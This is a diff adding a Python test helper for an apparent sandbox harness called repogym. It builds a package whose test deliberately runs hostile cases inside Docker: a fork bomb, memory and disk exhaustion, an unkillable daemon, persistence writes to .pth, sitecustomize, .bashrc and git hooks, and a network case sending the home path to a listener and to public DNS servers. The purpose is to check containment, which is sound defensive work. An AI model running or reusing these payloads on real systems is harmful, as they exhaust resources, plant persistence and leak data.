@@ -1,0 +1,349 @@
+"""Hostile repositories: one tiny package whose test misbehaves on purpose.
+
+``hostcalc`` is tinycalc plus ``tests/test_hostile.py``, whose one test reads the committed
+file ``hostile.txt`` and does what it names (see :data:`CASES`). Every case is a branch of
+one git repository that differs from ``main`` only in that file, so one environment image
+is built (the real install, by :meth:`DockerProvider.build_env`) and each case's image is
+*derived* from it: the same container state with the working copy moved to the case's
+commit and committed under the tag the pipeline computes for that commit. The pipeline
+then finds the image and runs everything else for real (clone, baseline, coverage,
+generate, judge, write).
+
+Every process a hostile test starts carries :data:`MARK` in its command line, so the host
+can count them (``/proc``) and prove none is left behind.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import threading
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from repogym.repos import clone
+from repogym.sandboxes.docker import DockerProvider, REPO_DIR, STATE, _venv_env
+from repogym.sandboxes.images import env_image_tag
+from repogym.schemas.records import EnvImage, RepoSpec
+from repogym.toolchains import PythonToolchain
+from tests.conftest import TINY_PROJECT, git
+
+MARK = "rg-hostile-mark"
+DISK_CAP_MB = 2048  # what the disk filler would write if nothing stopped it
+
+HOSTILE_TEST = r'''
+"""Does what hostile.txt says. Every helper process carries MARK in its argv."""
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+MARK = "%(mark)s"
+CASE = Path(__file__).resolve().parent.parent.joinpath("hostile.txt").read_text().split()
+
+
+def spawn(code, new_session=False):
+    return subprocess.Popen([sys.executable, "-c", code, MARK], start_new_session=new_session)
+
+
+FORKBOMB = """
+import os, time
+while True:
+    try:
+        os.fork()
+    except OSError:
+        time.sleep(0.01)
+"""
+
+DAEMON = """
+import os, signal, sys, time
+if os.fork():
+    sys.exit(0)
+os.setsid()
+if os.fork():
+    sys.exit(0)
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+signal.signal(signal.SIGHUP, signal.SIG_IGN)
+while True:
+    time.sleep(0.2)
+"""
+
+
+def case_none():
+    pass
+
+
+def case_forkbomb():
+    spawn(FORKBOMB, new_session=True)  # escapes the command's process group
+    spawn(FORKBOMB)
+    time.sleep(4)
+
+
+def case_loop():
+    while True:
+        pass
+
+
+def case_sleep():
+    time.sleep(10 ** 6)
+
+
+def case_memhog():
+    hoard = []
+    while True:
+        hoard.append(b"x" * (32 << 20))  # touched pages, not lazily mapped zeros
+
+
+def case_diskfill():
+    chunk = os.urandom(1 << 20)
+    written = 0
+    for where in (Path.cwd() / "fill", Path.home() / "fill", Path("/var/tmp/fill")):
+        where.mkdir(exist_ok=True)
+        for i in range(%(cap)d // 3):
+            try:
+                (where / f"f{i // 64}").open("ab").write(chunk)
+            except OSError as exc:
+                print("disk write stopped:", exc)
+                break
+            written += 1
+    print("wrote MB", written)
+
+
+def case_network():
+    host, port = CASE[1], int(CASE[2])
+    for addr in ((host, port), ("1.1.1.1", 53), ("1.1.1.1", 80), ("8.8.8.8", 53)):
+        try:
+            with socket.create_connection(addr, timeout=2) as conn:
+                conn.sendall(b"EXFILTRATED " + os.environ.get("HOME", "").encode())
+            print("connected", addr)
+        except OSError as exc:
+            print("no route", addr, exc)
+    for name in ("example.com", "pypi.org"):
+        try:
+            print("resolved", name, socket.getaddrinfo(name, 80)[0][4])
+        except OSError as exc:
+            print("no dns", name, exc)
+    try:
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.sendto(b"EXFILTRATED-UDP", (host, port))
+    except OSError as exc:
+        print("no udp", exc)
+
+
+def case_daemon():
+    spawn(DAEMON)
+    time.sleep(0.5)
+
+
+PTH = "import os; open('/tmp/rg-hostile-pth-ran', 'a').write('x')\n"
+
+
+def case_escape():
+    import site
+    import sysconfig
+    purelib = Path(sysconfig.get_paths()["purelib"])
+    targets = {
+        Path("/etc/rg-hostile"): "x",
+        Path(sys.prefix) / "rg-hostile": "x",
+        purelib / "rg_hostile.pth": PTH,
+        purelib / "sitecustomize.py": PTH,
+        Path(site.getusersitepackages()) / "rg_hostile.pth": PTH,
+        Path.home() / ".bashrc": "echo rg-hostile\n",
+        Path.home() / "rg-hostile": "x",
+        Path("/tmp/rg-hostile"): "x",
+        Path("/var/tmp/rg-hostile"): "x",
+        Path("/run/lock/rg-hostile"): "x",
+        Path("/dev/shm/rg-hostile"): "x",
+        Path("/opt/repogym/rg-hostile"): "x",
+        Path(".git/hooks/post-checkout"): "#!/bin/sh\ntouch /tmp/rg-hostile-hook\n",
+    }
+    for path, text in targets.items():
+        try:
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(text)
+            print("wrote", path)
+        except OSError as exc:
+            print("refused", path, type(exc).__name__)
+
+
+def test_hostile():
+    globals()["case_" + CASE[0]]()
+'''
+
+
+@dataclass(frozen=True)
+class Case:
+    """One hostile behaviour: the words of ``hostile.txt`` and what the run must show."""
+
+    name: str
+    words: tuple[str, ...] = ()
+
+    @property
+    def text(self) -> str:
+        return " ".join((self.name, *self.words)) + "\n"
+
+
+CASES = ("forkbomb", "loop", "memhog", "diskfill", "network", "daemon", "escape", "sleep")
+
+
+def hostile_files() -> dict[str, str]:
+    files = {k.replace("tinycalc", "hostcalc"): v.replace("tinycalc", "hostcalc")
+             for k, v in TINY_PROJECT.items()}
+    files["tests/test_hostile.py"] = HOSTILE_TEST % {"mark": MARK, "cap": DISK_CAP_MB}
+    files["hostile.txt"] = "none\n"
+    return files
+
+
+def make_hostile_repo(root: Path, cases: dict[str, Case]) -> dict[str, str]:
+    """``root`` with ``main`` (benign) and one branch per case; case name -> commit sha."""
+    from tests.conftest import commit_files
+
+    commits = {"none": commit_files(root, hostile_files())}
+    for name, case in cases.items():
+        git(root, "checkout", "-q", "-b", name, "main")
+        (root / "hostile.txt").write_text(case.text)
+        git(root, "commit", "-q", "-am", f"hostile: {name}")
+        commits[name] = git(root, "rev-parse", "HEAD")
+    git(root, "checkout", "-q", "main")
+    return commits
+
+
+def derive_env(provider: DockerProvider, shared: EnvImage, src: Path, commit: str,
+               cache_dir: Path) -> str:
+    """The env image the pipeline will look up for ``commit``, made from ``shared``.
+
+    Same install (the cases differ in ``hostile.txt`` only): a container on ``shared``
+    moves its working copy to ``commit``, records it as the image's commit, and is
+    committed with the tag and labels :meth:`DockerProvider.build_env` would give it.
+    """
+    checkout = clone(RepoSpec(source=str(src), commit=commit), cache_dir)
+    spec = PythonToolchain().env_spec(checkout, shared.spec.base_image)
+    assert spec.install_steps == shared.spec.install_steps
+    tag = env_image_tag(spec)
+    client = provider.client
+    container = client.containers.run(shared.ref, command=["sleep", "infinity"], detach=True,
+                                      user="root", network_mode="none",
+                                      labels=provider.labels("build"))
+    try:
+        script = (f"set -e; cd {REPO_DIR}; git reset -q --hard {commit}; "
+                  f"git rev-parse HEAD > {STATE}/commit; chown -R 1000:1000 {REPO_DIR}")
+        code, out = container.exec_run(["bash", "-c", script], user="root")
+        assert code == 0, out
+        repository, _, version = tag.rpartition(":")
+        env = _venv_env(client, shared.spec.base_image)
+        labels = {**provider.labels("env"), "repogym.repo": spec.repo,
+                  "repogym.digest": spec.digest()}
+        container.commit(repository=repository, tag=version, conf={
+            "User": "root", "WorkingDir": REPO_DIR, "Cmd": ["sleep", "infinity"],
+            "Env": [f"{k}={v}" for k, v in env.items()], "Labels": labels})
+    finally:
+        container.remove(force=True)
+    return tag
+
+
+# -- what the host sees ------------------------------------------------------------------
+
+
+def marked_pids() -> list[int]:
+    """Host pids whose command line carries :data:`MARK` (container processes included)."""
+    pids = []
+    for entry in os.scandir("/proc"):
+        if not entry.name.isdigit() or int(entry.name) == os.getpid():
+            continue
+        try:
+            with open(f"/proc/{entry.name}/cmdline", "rb") as fh:
+                if MARK.encode() in fh.read():
+                    pids.append(int(entry.name))
+        except OSError:
+            continue
+    return pids
+
+
+def free_mb(path: str = "/var/lib/docker") -> float:
+    st = os.statvfs(path if os.path.exists(path) else "/")
+    return st.f_bavail * st.f_frsize / (1 << 20)
+
+
+@dataclass
+class Observer:
+    """Samples the host while a case runs: marked processes and free disk space."""
+
+    period: float = 0.1
+    max_procs: int = 0
+    min_free_mb: float = field(default_factory=free_mb)
+    start_free_mb: float = field(default_factory=free_mb)
+    _stop: threading.Event = field(default_factory=threading.Event)
+    _thread: threading.Thread | None = None
+
+    def __enter__(self) -> "Observer":
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        assert self._thread is not None
+        self._thread.join()
+
+    def _run(self) -> None:
+        while not self._stop.wait(self.period):
+            self.max_procs = max(self.max_procs, len(marked_pids()))
+            self.min_free_mb = min(self.min_free_mb, free_mb())
+
+    @property
+    def disk_used_mb(self) -> float:
+        return self.start_free_mb - self.min_free_mb
+
+
+class Listener:
+    """A TCP + UDP listener on the host's docker bridge address: records what reaches it."""
+
+    def __init__(self, host: str) -> None:
+        self.tcp = socket.create_server((host, 0))
+        self.port = self.tcp.getsockname()[1]
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind((host, self.port))
+        self.tcp.settimeout(0.2)
+        self.udp.settimeout(0.2)
+        self.received: list[bytes] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread.start()
+
+    def _run(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.tcp.accept()
+                with conn:
+                    self.received.append(conn.recv(4096) or b"<connected>")
+            except (TimeoutError, socket.timeout):
+                pass
+            try:
+                self.received.append(self.udp.recv(4096))
+            except (TimeoutError, socket.timeout):
+                pass
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join()
+        self.tcp.close()
+        self.udp.close()
+
+
+def bridge_address(client) -> str:
+    """The host's address on Docker's default bridge (what a container would reach)."""
+    net = client.networks.get("bridge")
+    return net.attrs["IPAM"]["Config"][0]["Gateway"]
+
+
+def wait_until(cond, timeout: float = 10.0) -> bool:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if cond():
+            return True
+        time.sleep(0.1)
+    return cond()
